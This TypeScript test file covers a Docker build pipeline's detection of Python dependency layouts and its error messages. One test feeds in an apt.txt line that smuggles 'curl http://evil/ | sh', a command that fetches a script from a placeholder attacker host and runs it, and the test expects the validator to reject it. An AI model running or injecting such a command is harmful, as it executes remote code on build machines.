import { isBuilderError } from "@m1l0/config";
import { afterAll, describe, expect, it } from "vitest";
import { generateDockerfile } from "@m1l0/dockerfile";
import { classifyBuildError } from "../src/daemon.js";
import { runBuild } from "../src/pipeline.js";
import { FakeImageBuilder } from "./support/fake-builder.js";
import { pipelineFixture } from "./support/pipeline-fixture.js";

// Layout detection in the plan phase: the fakes behind the builder port, the real store on Redis.
const fixture = pipelineFixture();
afterAll(() => fixture.close());

const logLines = async (id: string) => (await fixture.store.readEvents(id, "0", { count: 1000 })).flatMap((item) => (item.event.type === "log" ? [`${item.event.phase}: ${item.event.line}`] : []));
const steps = (log: string[]) => log.filter((line) => /^build: Step \d+\/\d+ : /.test(line)).map((line) => line.replace(/^build: Step \d+\/\d+ : /, ""));

async function failure(files: Record<string, string>, fields: { ignores?: string[] } = {}) {
  const builder = new FakeImageBuilder({ anyBase: true });
  const { id, config } = await fixture.submit({ source: fixture.project({ "main.py": "print(1)\n", ...files }), ...fields });
  const error = await runBuild(fixture.deps({ builder }), id, config).then(() => undefined, (caught: unknown) => caught);
  return { error: isBuilderError(error) ? error : undefined, builder, id };
}

describe("layouts", () => {
  it("detects every layout, installs each in layer order, and records them", async () => {
    const builder = new FakeImageBuilder({ anyBase: true });
    const source = fixture.project({ "main.py": "print(1)\n", "apt.txt": "# tools\ncurl git\n", "requirements.txt": "numpy\n", "pyproject.toml": "[project]\nname='x'\n", "setup.py": "" });
    const { id, config } = await fixture.submit({ source });
    await expect(runBuild(fixture.deps({ builder, aptSources: ["deb [trusted=yes] http://10.1.2.3/ ./"] }), id, config)).resolves.toMatchObject({ kind: "succeeded" });
    expect((await fixture.store.require(id)).layouts).toEqual(["apt.txt", "requirements.txt", "pyproject.toml", "setup.py"]);
    const log = await logLines(id);
    expect(log).toContain("fetch: layout: apt.txt (curl, git), requirements.txt, pyproject.toml (pip install .; static dependencies before the code), setup.py");
    const built = steps(log);
    const code = built.indexOf("COPY . ./");
    const apt = built.findIndex((step) => step.includes("apt-get") && step.includes('"deb [trusted=yes] http://10.1.2.3/ ./","--","curl","git"]'));
    expect(apt).toBeGreaterThan(0);
    expect(apt).toBeLessThan(built.indexOf("COPY requirements.txt ./"));
    expect(built.indexOf("COPY pyproject.toml ./")).toBeLessThan(code);
    expect(built[code + 1]).toBe('RUN ["python3","-m","pip","install","."]');
  });

  it("a pyproject.toml of tool settings only is not installed", async () => {
    const builder = new FakeImageBuilder({ anyBase: true });
    const { id, config } = await fixture.submit({ source: fixture.project({ "main.py": "print(1)\n", "requirements.txt": "numpy\n", "pyproject.toml": "[tool.black]\nline-length = 100\n# [project] in a comment\n" }) });
    await runBuild(fixture.deps({ builder }), id, config);
    expect((await fixture.store.require(id)).layouts).toEqual(["requirements.txt"]);
    const log = await logLines(id);
    expect(log).toContain("fetch: layout: requirements.txt, pyproject.toml (no [project] or [build-system] table: tool settings only, not installed)");
    expect(steps(log).some((step) => step.includes("pip\",\"install\",\".") || step.includes("tomllib"))).toBe(false);
  });

  it("a pyproject.toml with only a [build-system] table is installed", async () => {
    const builder = new FakeImageBuilder({ anyBase: true });
    const { id, config } = await fixture.submit({ source: fixture.project({ "main.py": "print(1)\n", "pyproject.toml": "[build-system] # setuptools\nrequires = ['setuptools']\n" }) });
    await runBuild(fixture.deps({ builder }), id, config);
    expect((await fixture.store.require(id)).layouts).toEqual(["pyproject.toml"]);
  });

  it("a source with none of them is code only, and says so", async () => {
    const builder = new FakeImageBuilder({ anyBase: true });
    const { id, config } = await fixture.submit({ source: fixture.project({ "main.py": "print(1)\n" }) });
    await runBuild(fixture.deps({ builder }), id, config);
    expect((await fixture.store.require(id)).layouts).toEqual([]);
    expect(await logLines(id)).toContain("fetch: layout: none found (code only: no apt.txt, requirements.txt, pyproject.toml or setup.py)");
  });

  it("refuses environment.yml before anything is built, saying what to do", async () => {
    const { error, builder } = await failure({ "environment.yml": "dependencies: [numpy]\n", "requirements.txt": "numpy\n" });
    expect(error?.code).toBe("UNSUPPORTED_LAYOUT");
    expect(error?.message).toMatch(/environment\.yml, which needs conda, and the base image python:3\.11-slim has no conda: list the pip packages in requirements\.txt/);
    expect(error?.message).toMatch(/add it to "ignores"/);
    expect(error?.message).toMatch(/your own Dockerfile/);
    expect(builder.calls.filter((call) => call.method === "build")).toEqual([]);
  });

  it("builds once environment.yml is ignored", async () => {
    const { error } = await failure({ "environment.yml": "dependencies: [numpy]\n" }, { ignores: ["environment.yml"] });
    expect(error).toBeUndefined();
  });

  it("fails a bad apt.txt line before building, naming apt.txt, the line and the reason", async () => {
    const { error, builder } = await failure({ "apt.txt": "curl\n\nlibgl1 && curl http://evil/ | sh\n" });
    expect(error?.code).toBe("INVALID_DEPENDENCY_FILE");
    expect(error?.message).toBe('apt.txt line 3: "&&" is not a Debian package name (names start with a letter or a digit)');
    expect(builder.calls.filter((call) => call.method === "build")).toEqual([]);
  });

  it("an apt.txt with no names adds no apt layer", async () => {
    const builder = new FakeImageBuilder({ anyBase: true });
    const { id, config } = await fixture.submit({ source: fixture.project({ "main.py": "print(1)\n", "apt.txt": "# none yet\n" }) });
    await runBuild(fixture.deps({ builder }), id, config);
    expect((await fixture.store.require(id)).layouts).toEqual([]);
    expect(steps(await logLines(id)).some((step) => step.includes("apt-get"))).toBe(false);
  });
});

describe("a failed install step names its layout", () => {
  const lines = generateDockerfile({ baseImage: "python:3.11-slim", entry: "main.py", hasRequirements: true, aptPackages: ["curl"], project: { pyproject: true }, labels: {} }).split("\n");
  const step = (match: (line: string) => boolean) => `Step 5/12 : ${lines.find(match)}`;
  it.each([
    ["apt.txt", step((line) => line.includes("apt-get")), "E: Unable to locate package curl", /^installing the packages apt\.txt lists failed: E: Unable to locate package curl \(check the names in apt\.txt/],
    // seen in CI: apt's stderr "E: …" joined stdout's "Reading package lists..." on one line
    ["apt.txt, the cause after a progress text", step((line) => line.includes("apt-get")), "Reading package lists...E: Unable to locate package curl", /^installing the packages apt\.txt lists failed: E: Unable to locate package curl \(check/],
    ["requirements.txt", step((line) => line.includes("-r requirements.txt")), "ERROR: No matching distribution found for nope", /^installing requirements\.txt failed: ERROR: No matching/],
    ["pyproject.toml", step((line) => line.includes("tomllib")), "ERROR: No matching distribution found for nope", /^installing the dependencies pyproject\.toml lists failed: .*\[project\] dependencies/],
    ["the project", step((line) => line.includes('"pip","install","."')), "error: subprocess-exited-with-error", /^installing the project \(pip install \.\) failed: error: subprocess/],
  ])("%s", (_name, current, errorLine, message) => {
    const error = classifyBuildError("The command returned a non-zero code: 100", current, ["noise", errorLine]);
    expect(error.code).toBe("DEPENDENCY_INSTALL_FAILED");
    expect(error.message).toMatch(message);
  });
});
